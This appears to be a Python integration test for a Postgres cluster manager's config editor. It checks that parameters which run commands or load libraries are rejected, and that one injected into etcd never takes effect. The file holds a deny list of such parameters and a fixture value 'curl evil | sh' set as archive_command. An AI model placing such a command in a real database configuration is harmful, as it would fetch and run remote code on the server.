"""`pgwarden ctl edit-config` cannot put a parameter that runs a command or loads code into the
cluster settings (one line naming the node file key to use, nothing written), and such a parameter
written straight into etcd never takes effect while the rest of the document does."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
import urllib3

from pgwarden.config.schema import ClusterSettings, SyncMode
from pgwarden.core.settings import NODE_ONLY_PARAMETERS
from pgwarden.store.cluster import ClusterStore as Store
from tests.cli.helpers import TIMEOUT, run_cli
from tests.support.etcd import EtcdServer

pytestmark = pytest.mark.integration

DANGEROUS = sorted({*NODE_ONLY_PARAMETERS, "archive_command", "restore_command", "archive_cleanup_command",
                    "recovery_end_command", "ssl_passphrase_command", "shared_preload_libraries",
                    "local_preload_libraries", "session_preload_libraries", "dynamic_library_path",
                    "my_ext.notify_command", "Archive_Command"})


def test_edit_config_refuses_node_only_parameters(node_file: Path, store: Store) -> None:
    assert store.set_settings(ClusterSettings(ttl=6), None, TIMEOUT)
    token = store.snapshot(TIMEOUT).settings_token
    for name in DANGEROUS:
        for key in (f"parameters.{name}", f"postgresql.parameters.{name}"):
            r = run_cli("ctl", "-c", str(node_file), "edit-config", "--set", "ttl=8", "--set", f"{key}=x")
            assert (r.code, r.out) == (2, ""), (key, r.err)
            lines = r.err.strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("pgwarden: error: "), r.err
            assert f"parameters.{name} runs a command or loads code" in lines[0]
            assert "set it in each node's own file under postgresql.parameters" in lines[0]
    view = store.snapshot(TIMEOUT)
    assert view.settings_token == token and view.settings == ClusterSettings(ttl=6)  # nothing written


def test_a_stored_node_only_parameter_never_takes_effect(cluster: str, etcd: EtcdServer, store: Store,
                                                         ) -> None:
    doc = {"synchronous_mode": "on", "ttl": 6,
           "parameters": {"archive_command": "curl evil | sh", "work_mem": "8MB"}}
    key = base64.b64encode(f"/pgwarden/{cluster}/config".encode()).decode()
    value = base64.b64encode(json.dumps(doc).encode()).decode()
    r = urllib3.request("POST", f"http://{etcd.endpoint}/v3/kv/put", json={"key": key, "value": value})
    assert r.status == 200, r.data
    s = store.snapshot(TIMEOUT).settings
    assert (s.synchronous_mode, s.ttl, s.parameters) == (SyncMode.ON, 6.0, {"work_mem": "8MB"})
